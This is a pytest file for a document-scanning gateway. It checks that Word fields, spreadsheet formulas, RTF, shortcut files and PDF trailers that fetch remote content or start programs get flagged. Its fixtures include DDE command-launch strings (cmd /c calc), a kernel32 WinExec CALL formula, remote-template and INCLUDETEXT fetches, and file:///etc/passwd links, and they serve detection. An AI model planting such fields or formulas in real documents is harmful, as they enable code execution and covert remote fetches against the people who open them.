"""What acts or fetches by itself is named in every form a document can carry it in; what is ordinary is not."""

from __future__ import annotations

import io
import random
import struct
import zipfile

import pikepdf
import pytest

from gateway.inspect import inspection
from gateway.inspect.document import Document, Examination, Limits
from gateway.inspect.formats import office_records
from gateway.inspect.formats.references import field_codes, formula_codes, place
from gateway.inspect.scan import pdf as scan_pdf
from gateway.inspect.scan import rich_text, yara
from gateway.inspect.scan.office_markup import check
from tests.support.parts import Parts

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
W2003 = "http://schemas.microsoft.com/office/word/2003/wordml"
S2003 = "urn:schemas-microsoft-com:office:spreadsheet"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
ODF = "urn:oasis:names:tc:opendocument:xmlns:"


@pytest.fixture(scope="module")
def rules():
    return yara.RuleSet.load()


def document(data, name="name", **more):
    return Document("d", io.BytesIO(data), len(data), name, **more)


def inspect(data, rules, name="name"):
    return inspection.inspect(document(data, name), Limits(), Parts(), rules=rules, clamd=None)


def said(verdict):
    """Everything said against a document."""
    return ", ".join(
        scan.detail
        for scan in verdict.scans
        if scan.outcome not in {"clean", "skipped"} and scan.scanner != "reader"
    )


def package(*members, main="word/document.xml"):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("[Content_Types].xml", "<Types/>")
        file.writestr(main, "<document/>")
        for name, content in members:
            file.writestr(name, content)
    return buffer.getvalue()


def word(body, part="word/footnotes.xml", prefix="w"):
    text = f'<{prefix}:x xmlns:{prefix}="{W}">{body}</{prefix}:x>'
    return package((part, text.replace("w:", f"{prefix}:") if prefix != "w" else text))


def runs(*pieces):
    """A field whose code is cut into runs."""
    text = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f"<w:p>{char('begin')}{text}{char('separate')}{char('end')}</w:p>"


def char(kind):
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


# ── links, fields and formulas from their words ──────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("target", "where"),
    [
        ("https://example.org/a", "web"),
        ("mailto:a@example.org", "inside"),
        ("sheet2.xml", "inside"),
        ("#Sheet1!A1", "inside"),
        ("/word/media/a.png", "inside"),
        (r"\\host\share", "outside"),
        ("//host/share", "outside"),
        (r"\/host/share", "outside"),
        ("%5C%5Chost%5Cshare", "outside"),
        ("file:///etc/passwd", "outside"),
        ("fi\nle:///x", "outside"),
        (" JavaScript:x()", "outside"),
        ("ms-word:ofe|u|https://x", "outside"),
        ("search-ms:query=x", "outside"),
        (r"C:\work\a.docx", "file"),
    ],
)
def test_where_a_link_leads_is_told_from_its_target(target, where):
    assert place(target) == where


@pytest.mark.parametrize(
    "code",
    [
        " PAGE ",
        r' TOC \o "1-3" \h \z \u ',
        r" REF _Ref123 \h ",
        r' DATE \@ "dd.MM.yyyy" ',
        " MERGEFIELD Name ",
        ' HYPERLINK "https://example.org/a" ',
        ' HYPERLINK "mailto:a@example.org" ',
        r' HYPERLINK \l "_Toc1" ',
        r' INCLUDEPICTURE "cid:image001.png@01" \* MERGEFORMATINET ',
        " QUOTE hello ",
        " linked text ",
        "",
    ],
)
def test_ordinary_fields_say_nothing(code):
    assert field_codes(code) == []


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (r'DDEAUTO c:\\windows\\cmd "/k calc"', "office.dde"),
        ('  "DDE" excel', "office.dde"),
        ("QUOTE 68 68 69 65", "office.dde"),
        (r'INCLUDETEXT "\\\\host\\a.docx"', "office.fetching_field"),
        ("includetext https://example.org/a", "office.fetching_field"),
        ('RD "http://example.org/a"', "office.fetching_field"),
        (r'DATABASE \d "C:\\a.mdb"', "office.fetching_field"),
        (r'INCLUDEPICTURE "https://example.org/a.png" \d', "office.fetching_field"),
        (r"IMPORT \\\\host\\a.png", "office.fetching_field"),
        (r'LINK Excel.Sheet.12 "\\\\host\\a.xlsx" "S!R1C1" \a', "office.external_link"),
        (r'HYPERLINK "\\\\host\\share\\a"', "office.external_link"),
        ('HYPERLINK "file:///c:/a.exe"', "office.external_link"),
        (r'AUTOTEXT "\\\\host\\a"', "office.external_link"),
    ],
)
def test_fields_that_fetch_or_start_something_are_named(code, expected):
    assert field_codes(code) == [expected]


@pytest.mark.parametrize(
    "formula",
    [
        "=SUM(A1:A9)",
        'HYPERLINK("https://example.org/a","open")',
        '=HYPERLINK("#Sheet2!A1")',
        '="please CALL (0555) 1234"',
        "'CALL (x)'!A1",
        "'A|B'!A1",
        "of:={1;2|3;4}",
        "of:=[.A1]!2",
        "MYCALL(1)+IMAGINARY(2)",
        '=A1&"|"&B1&"!"',
    ],
)
def test_ordinary_formulas_say_nothing(formula):
    assert formula_codes(formula) == []


@pytest.mark.parametrize(
    ("formula", "expected"),
    [
        ('_xlfn.WEBSERVICE("http://x/"&A1)', "office.reaching_formula"),
        ('of:=COM.MICROSOFT.WEBSERVICE("http://x")', "office.reaching_formula"),
        ('_xlfn.IMAGE("https://example.org/a.png")', "office.reaching_formula"),
        ('RTD("prog.id",,"x")', "office.reaching_formula"),
        ('_xlfn.FILTERXML(A1,"//a")', "office.reaching_formula"),
        ('CALL ("kernel32","WinExec","JCJ","calc",0)', "office.reaching_formula"),
        ('register.id("a","b")', "office.reaching_formula"),
        ("cmd|'/c calc'!A1", "office.dde"),
        ("MSEXCEL|'\\..\\cmd.exe /c calc'!''", "office.dde"),
        ("'cmd'|'/c calc'!'A1'", "office.dde"),
        (r'HYPERLINK("\\host\share","open")', "office.external_link"),
        (r'HYPERLINK("\" & "\host\share")', "office.external_link"),
        ('=HYPERLINK("file:///c:/a.exe";"x")', "office.external_link"),
        (r"'\\host\share\[b.xlsx]S'!A1", "office.external_link"),
        ("of:='file:///tmp/a.ods'#$S.A1", "office.external_link"),
    ],
)
def test_formulas_that_reach_outside_are_named(formula, expected):
    assert formula_codes(formula) == [expected]


# ── Word ─────────────────────────────────────────────────────────────────────────────────────────

DECEPTIONS = [
    (runs("INC", "LUDE", "TEXT \\\\\\\\host\\\\a.docx"), "office.fetching_field"),
    (
        (
            f"<w:p>{char('begin')}<w:r><w:instrText>DDE</w:instrText></w:r></w:p>"
            f"<w:p><w:r><w:instrText>AUTO c:\\x</w:instrText></w:r>{char('end')}</w:p>"
        ),
        "office.dde",
    ),
    (
        "<w:p><w:fldSimple w:instr='INCLUDEPICTURE \"http://x/a.png\"'/></w:p>",
        "office.fetching_field",
    ),
    (runs("<![CDATA[LINK Excel.Sheet \\\\\\\\host\\\\a]]>"), "office.external_link"),
    (
        (
            f'<w:p>{char("begin")}<w:instrText>IF 1 = 1 "</w:instrText>{runs("INCLUDETEXT http://x")}'
            f'<w:instrText>"</w:instrText>{char("end")}</w:p>'
        ),
        "office.fetching_field",
    ),
    (
        f"<w:p>{char('begin')}{runs('QUOTE 68 68')}<w:instrText>E cmd</w:instrText>{char('end')}</w:p>",
        "office.dde",
    ),
    (
        (
            f"<w:p>{char('begin')}{char('begin')}<w:instrText>DOCPROPERTY a</w:instrText>{char('separate')}"
            f"<w:t>INCLUDETEXT</w:t>{char('end')}<w:instrText> http://x</w:instrText>{char('end')}</w:p>"
        ),
        "office.fetching_field",
    ),
]


@pytest.mark.parametrize(("body", "code"), DECEPTIONS)
@pytest.mark.parametrize(
    ("part", "prefix"),
    [
        ("word/document2.xml", "w"),
        ("word/header1.xml", "w"),
        ("word/comments.xml", "x"),
        ("word/footnotes.data", "w"),
    ],
)
def test_fields_are_put_together_in_every_part_and_with_every_prefix(
    body, code, part, prefix, rules
):
    assert code in said(inspect(word(body, part, prefix), rules))


def test_a_document_with_ordinary_fields_and_links_is_clean(rules):
    body = runs(" PA", "GE ") + runs(' HYPERLINK "https://example.org" ') + runs(r" TOC \o ")
    links = (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="1" Type="http://x/hyperlink"'
        ' Target="https://example.org/" TargetMode="External"/><Relationship Id="2"'
        ' Type="http://x/image" Target="media/a.png"/></Relationships>'
    )
    data = package(
        ("word/header1.xml", f'<w:x xmlns:w="{W}">{body}</w:x>'),
        ("word/_rels/document.xml.rels", links),
    )
    assert said(inspect(data, rules)) == ""


@pytest.mark.parametrize(
    ("kind", "target", "mode", "code"),
    [
        ("frame", "http://example.org/a", "External", "office.external_template"),
        ("attachedTemplate", r"\\host\a.dotm", "External", "office.external_template"),
        ("attachedTemplate", "https://example.org/a.dotm", "Internal", "office.external_template"),
        ("subDocument", "file:///a.docx", "External", "office.external_template"),
        ("oleObject", "file:///a.xlsx", "External", "office.external_link"),
        ("externalLinkPath", r"\\host\a.xlsx", "External", "office.external_link"),
        ("externalLinkPath", "http://host/a.xlsx", "External", "office.external_link"),
        ("hyperlink", "%5C%5Chost%5Cx", "External", "office.external_link"),
        ("hyperlink", "search-ms:query=a", "External", "office.external_link"),
        ("image", "https://example.org/a.png", "", "office.external_link"),
        ("aFChunk", "afchunk.rtf", "", "office.embedded_object"),
    ],
)
@pytest.mark.parametrize("flat", [False, True])
def test_relationships_that_lead_away_are_named_in_packages_and_in_one_file(
    kind, target, mode, code, flat, rules
):
    link = f'<Relationship Id="1" Type="http://x/{kind}" Target="{target}" TargetMode="{mode}"/>'
    text = f'<Relationships xmlns="{RELATIONS}">{link}</Relationships>'
    data = (
        f'<?xml version="1.0"?><?mso-application progid="Word.Document"?><p:package xmlns:p="urn:p"><p:part'
        f' p:name="/word/_rels/a.rels"><p:xmlData>{text}</p:xmlData></p:part></p:package>'.encode()
        if flat
        else package(("word/_rels/webSettings.xml.rels", text))
    )
    assert code in said(inspect(data, rules))


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ('<w:p><w:fldSimple w:instr="INCLUDETEXT http://x"/></w:p>', "office.fetching_field"),
        (runs("DDE", "AUTO cmd"), "office.dde"),
        (
            '<w:docPr><w:attachedTemplate w:val="http://x/a.dot"/></w:docPr>',
            "office.external_templ",
        ),
        (r'<w:frame><w:sourceFileName w:val="\\host\a"/></w:frame>', "office.external_template"),
        (r'<w:hlink w:dest="\\host\a"/>', "office.external_link"),
        ('<v:imagedata xmlns:v="urn:v" src="http://x/a.png"/>', "office.external_link"),
    ],
)
@pytest.mark.parametrize("coding", ["utf-8", "utf-16"])
def test_word_2003_xml_is_looked_through_like_a_package(body, code, coding, rules):
    text = f'<?xml version="1.0" encoding="{coding}"?><w:wordDocument xmlns:w="{W2003}">{body}</w:wordDocument>'
    assert code in said(inspect(text.encode(coding), rules))


# ── workbooks ────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("part", "body"),
    [
        ("xl/worksheets/sheet1.xml", "<sheetData><row><c><f>{}</f></c></row></sheetData>"),
        ("xl/workbook.xml", '<definedNames><definedName name="a">{}</definedName></definedNames>'),
        (
            "xl/worksheets/sheet1.xml",
            "<conditionalFormatting><formula>{}</formula></conditionalFormatting>",
        ),
        ("xl/worksheets/sheet1.xml", "<dataValidation><formula1>{}</formula1></dataValidation>"),
        ("xl/tables/table1.xml", "<calculatedColumnFormula>{}</calculatedColumnFormula>"),
    ],
)
@pytest.mark.parametrize(
    ("formula", "code"),
    [
        ('_xlfn.WEBSERVICE("http://x")', "office.reaching_formula"),
        ("cmd|'/c calc'!A1", "office.dde"),
        ("SUM(A1:A2)", ""),
    ],
)
def test_formulas_are_looked_at_wherever_a_workbook_keeps_them(part, body, formula, code, rules):
    text = f'<x:a xmlns:x="{S}">' + body.replace("<", "<x:").replace("<x:/", "</x:") + "</x:a>"
    found = said(inspect(package((part, text.format(formula)), main="xl/a.xml"), rules))
    assert code in found if code else found == ""


def test_a_sheet_too_large_to_hold_is_read_as_a_stream(rules):
    some = random.Random(1)
    cells = "".join(f"<row><c><v>{some.randbytes(200).hex()}</v></c></row>" for _ in range(41_000))
    text = f'<a xmlns="{S}">{cells}<row><c><f>{{}}</f></c></row></a>'
    for formula, code in (("RTD(1)", "office.reaching_formula"), ("SUM(A1)", "")):
        data = package(("xl/worksheets/sheet1.xml", text.format(formula)), main="xl/a.xml")
        found = said(inspect(data, rules))
        assert code in found
        assert bool(found) == bool(code)


def test_a_workbook_inside_a_document_is_examined_like_one_outside(rules):
    inner = package(
        ("xl/worksheets/sheet1.xml", f'<a xmlns="{S}"><f>RTD(1)</f></a>'), main="xl/workbook.xml"
    )
    assert "office.reaching_formula" in said(
        inspect(package(("word/embeddings/chart.xlsx", inner)), rules)
    )
    plain = package(main="xl/workbook.xml")
    assert said(inspect(package(("word/embeddings/chart.xlsx", plain)), rules)) == ""


@pytest.mark.parametrize(
    ("cell", "code"),
    [
        ("<s:Cell s:Formula='=WEBSERVICE(\"http://x\")'/>", "office.reaching_formula"),
        ("<s:Cell s:Formula=\"=cmd|'/c calc'!A1\"/>", "office.dde"),
        (r'<s:Cell s:HRef="\\host\a"/>', "office.external_link"),
        ("<s:NamedRange s:RefersTo='=CALL(\"a\")'/>", "office.reaching_formula"),
        ('<x:QueryTable xmlns:x="urn:x"/>', "office.external_connection"),
        ('<s:Cell s:Formula="=SUM(R1C1)" s:HRef="https://example.org"/>', ""),
    ],
)
def test_excel_2003_xml_is_looked_through(cell, code, rules):
    data = f'<?xml version="1.0"?><s:Workbook xmlns:s="{S2003}">{cell}</s:Workbook>'.encode()
    found = said(inspect(data, rules))
    assert code in found if code else found == ""


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ("<t:table-cell t:formula=\"of:=cmd|'/c calc'!A1\"/>", "office.dde"),
        ("<t:table-cell t:formula='of:=WEBSERVICE(\"http://x\")'/>", "office.reaching_formula"),
        ('<t:cell-range-source l:href="https://x/a.ods"/>', "office.external_link"),
        (r'<d:image l:href="\\host\a.png"/>', "office.external_link"),
        ('<d:image l:href="https://x/a.png"/>', "office.external_link"),
        ('<x:section-source l:href="file:///a.odt"/>', "office.external_link"),
        ('<x:a l:href="vnd.sun.star.script:a"/>', "office.external_link"),
        ('<d:image l:href="Pictures/a.png"/><x:a l:href="https://example.org"/>', ""),
    ],
)
@pytest.mark.parametrize("flat", [False, True])
def test_opendocument_is_looked_through_in_a_package_and_in_one_file(body, code, flat, rules):
    spaces = (
        f'xmlns:o="{ODF}office:1.0" xmlns:t="{ODF}table:1.0" xmlns:d="{ODF}drawing:1.0"'
        f' xmlns:x="{ODF}text:1.0" xmlns:l="http://www.w3.org/1999/xlink"'
    )
    text = f'<?xml version="1.0"?><o:document {spaces}>{body}</o:document>'
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        file.writestr("content.xml", text)
    found = said(inspect(text.encode() if flat else buffer.getvalue(), rules))
    assert code in found if code else found == ""


def test_a_binary_workbook_that_calls_or_links_is_named():
    def codes(*records):
        result = Examination("office")
        data = b"".join(struct.pack("<HH", kind, len(p)) + p for kind, p in records)
        office_records.check_workbook(data, result)
        return result.suspect

    outside = "\\\\host\\a".encode("utf-16-le")
    assert codes((0x06, bytes(22) + b"\x42\x03\x7b\x01")) == ["office.reaching_formula"]
    assert codes((0x01B8, bytes(30) + outside)) == ["office.external_link"]
    assert codes((0x23, "_xlfn.WEBSERVICE".encode("utf-16-le"))) == ["office.reaching_formula"]
    assert codes((0x06, bytes(30)), (0x01B8, "https://example.org".encode("utf-16-le"))) == []


def test_a_binary_sheet_of_a_package_that_calls_is_named(rules):
    def sheet(formula):
        cell = bytes(8) + struct.pack("<dHI", 1, 0, len(formula)) + formula + bytes(4)
        return b"\x81\x01\0" + b"\0\x04" + bytes(4) + b"\x09" + bytes([len(cell)]) + cell

    for formula, expected in ((b"\x42\x03\x7b\x01", "office.reaching_formula"), (b"\x1e\1\0", "")):
        data = package(("xl/worksheets/sheet1.bin", sheet(formula)), main="xl/a.xml")
        assert said(inspect(data, rules)) == expected


@pytest.mark.parametrize("coding", ["latin-1", "utf-16-le"])
def test_a_binary_document_s_fields_are_named_in_both_codings(coding):
    text = '\x13 INCLUDEPICTURE "\\\\\\\\host\\\\a" \x14x\x15'
    result = Examination("office")
    office_records.check_word(b"\xec\xa5" + text.encode(coding), result)
    assert result.suspect == ["office.fetching_field"]


# ── rich text, XFDF ──────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("text", "code"),
    [
        (rb"{\rtf1{\field{\*\fldinst{\b INC}{\i LUDETEXT http://x}}}}", "office.fetching_field"),
        (rb"{\rtf1{\field{\*\fldinst D\'44EAUTO c:\\x}}}", "office.dde"),
        (rb"{\rtf1{\field{\*\fldinst \u68?\u68?\u69? x}}}", "office.dde"),
        (rb'{\rtf1{\field{\*\fldinst LINK Excel "\\\\\\\\host\\\\a"}}}', "office.external_link"),
        (rb"{\rtf1{\*" + b"\n" + rb"\template http://x/a.dot}}", "office.external_template"),
        (rb'{\rtf1{\field{\*\fldinst HYPERLINK "https://example.org"}{\fldrslt x}} PAGE}', ""),
    ],
)
def test_fields_of_rich_text_are_put_together_over_groups(text, code):
    result = Examination("office")
    rich_text.check(text, result)
    assert result.suspect == ([code] if code else [])


@pytest.mark.parametrize(
    ("body", "closed"),
    [
        (r'<f href="\\host\a.pdf"/>', True),
        ('<f href="https://example.org/a.pdf"/>', True),
        ('<f href="a.pdf"/><fields><field name="a"><value>1</value></field></fields>', False),
        (
            "<annots><link><OnActivation><Action><Launch/></Action></OnActivation></link></annots>",
            True,
        ),
    ],
)
def test_an_xfdf_that_names_a_form_elsewhere_is_suspect(body, closed, rules):
    data = f'<?xml version="1.0"?><xfdf xmlns="http://ns.adobe.com/xfdf/">{body}</xfdf>'.encode()
    assert bool(said(inspect(data, rules))) == closed


def test_a_form_data_file_is_never_clean(rules):
    data = b"%FDF-1.2\n1 0 obj\n<</FDF<</F(\\\\\\\\host\\\\a.pdf)>>>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"
    assert said(inspect(data, rules)) != ""


def test_xml_that_is_not_well_formed_is_said_to_be_and_looked_through():
    result = Examination("office")
    check(b"<w:p><w:fldSimple w:instr='DDEAUTO x'/>", result)
    assert result.unreadable == "malformed"
    assert result.suspect == ["office.dde"]


# ── behind a PDF ─────────────────────────────────────────────────────────────────────────────────


def pdf():
    made = pikepdf.new()
    made.add_blank_page()
    buffer = io.BytesIO()
    made.save(buffer)
    return buffer.getvalue()


ZIP = package()
UPDATE = b"\nstartxref\n9\n%%EOF\n"


@pytest.mark.parametrize(
    "behind",
    [
        ZIP,
        b"MZ" + bytes(60),
        b"Rar!\x1a\x07\x01\0" + bytes(50),
        b"\n<script>x</script>",
        ZIP + b"\n%%EOF\n",
        b"%\n" + ZIP,
    ],
)
def test_another_file_behind_a_pdf_is_named(behind):
    examination, _embedded = scan_pdf.scan(document(pdf() + behind), Limits())
    assert "pdf.data_after_end" in examination.suspect


def test_an_archive_whose_comment_is_the_end_of_a_pdf_is_named():
    made = pikepdf.new()
    made.add_blank_page()
    made.Root.X = made.make_stream(ZIP)
    buffer = io.BytesIO()
    made.save(buffer, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    data = buffer.getvalue()
    at = data.rfind(b"PK\x05\x06")
    data = data[: at + 20] + (len(data) - at - 22).to_bytes(2, "little") + data[at + 22 :]
    assert zipfile.is_zipfile(io.BytesIO(data))
    examination, _embedded = scan_pdf.scan(document(data), Limits())
    assert "pdf.data_after_end" in examination.suspect


@pytest.mark.parametrize(
    "before",
    [
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\2\0\0\0",
        b"GIF89a" + bytes(30),
        b"a letter\n",
        b"<?xml version='1.0'?><a/>",
    ],
)
def test_an_archive_behind_a_picture_or_a_text_is_named(before, rules):
    assert "archive.behind_another_file" not in said(inspect(before, rules))
    assert "archive.behind_another_file" in said(inspect(before + ZIP, rules))


@pytest.mark.parametrize("behind", [b"", b"\r\n", b"\n\n \0\0\0", b"\r\n\x1a"])
def test_blanks_behind_a_pdf_are_ordinary(behind):
    examination, _embedded = scan_pdf.scan(document(pdf() + behind), Limits())
    assert examination.suspect == []


# ── files that act when they are opened ──────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    "suffix",
    [
        "iqy",
        "rdp",
        "desktop",
        "ics",
        "url",
        "lnk",
        "website",
        "search-ms",
        "settingcontent-ms",
        "scf",
        "library-ms",
        "slk",
        "jnlp",
        "appref-ms",
        "dqy",
        "oqy",
        "odc",
        "udl",
        "xll",
        "ps1",
        "msc",
        "appinstaller",
        "diagcab",
    ],
)
@pytest.mark.parametrize("ending", ["", " ", ".", "\u200b", ":stream"])
def test_names_of_what_acts_when_opened_are_suspect(suffix, ending, rules):
    assert "name.program_suffix" in said(inspect(b"harmless", rules, f"a.{suffix}{ending}"))
    assert "name.program_suffix" in said(inspect(b"harmless", rules, f"A.{suffix.upper()}{ending}"))


@pytest.mark.parametrize(
    "text",
    [
        "WEB\r\n1\r\nhttp://example.org/x\r\n",
        "WEB\n1\n\\\\host\\x\n",
        "[InternetShortcut]\r\nURL=file://host/x\r\n",
        "; a comment\r\n[InternetShortcut]\r\nURL=x\r\n",
        "#!/usr/bin/env xdg-open\n[Desktop Entry]\nType=Application\n",
        "[Desktop Entry]\nExec=x\n",
        "screen mode id:i:2\r\nfull address:s:host\r\n",
        "[Shell]\r\nCommand=2\r\nIconFile=\\\\host\\a.ico\r\n",
        "[.ShellClassInfo]\r\nIconResource=\\\\host\\a\r\n",
        '<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"/>',
        '<?xml version="1.0"?><persistedQuery version="1.0"/>',
        '<?xml version="1.0"?><PCSettings><SearchableContent/></PCSettings>',
        '<jnlp spec="1.0+"><application-desc/></jnlp>',
        '<?xml version="1.0"?><MMC_ConsoleFile/>',
        "https://example.org/a.application#a.application, Culture=neutral",
        "#!/bin/sh\nx\n",
    ],
)
@pytest.mark.parametrize("coding", ["utf-8", "utf-8-sig", "utf-16"])
def test_what_acts_when_opened_is_known_by_its_content_under_any_name(text, coding, rules):
    assert "text.acts_when_opened" in said(inspect(text.encode(coding), rules, "note.txt"))


@pytest.mark.parametrize(
    "text",
    [
        "WEB\nsite of the company: https://example.org\n",
        "see [InternetShortcut] in the manual\n",
        "Date,Amount\n2026-01-01,5\n",
        "# Notes\n\n[shell] companies\n",
    ],
)
def test_ordinary_texts_are_not(text, rules):
    assert said(inspect(text.encode(), rules, "note.txt")) == ""
